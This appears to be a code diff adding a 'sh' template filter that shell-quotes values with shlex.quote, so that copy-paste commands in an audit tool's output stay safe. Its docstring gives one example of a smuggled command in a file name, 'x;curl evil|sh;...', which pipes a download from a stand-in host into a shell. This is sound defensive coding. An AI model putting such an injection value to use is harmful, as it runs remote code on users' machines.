@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from typing import Any
 
 from lethe_audit.statements import parse_rfc3339
@@ -95,7 +96,17 @@ def deadline(d: dict[str, Any] | None) -> str:
     return "unknown"
 
 
+def sh(x: Any, always: bool = False) -> str:
+    """``x`` as exactly one shell word (:func:`shlex.quote`) for copy-paste commands: a file
+    name like ``x;curl evil|sh;.tlog-proof`` stays one harmless argument. ``always``: in
+    single quotes even when nothing needs quoting (how vkeys are shown)."""
+    text = str(x)
+    quoted = shlex.quote(text)
+    return f"'{quoted}'" if always and quoted == text else quoted
+
+
 FILTERS = {
+    "sh": sh,
     "pct": pct,
     "pp": pp,
     "num": num,
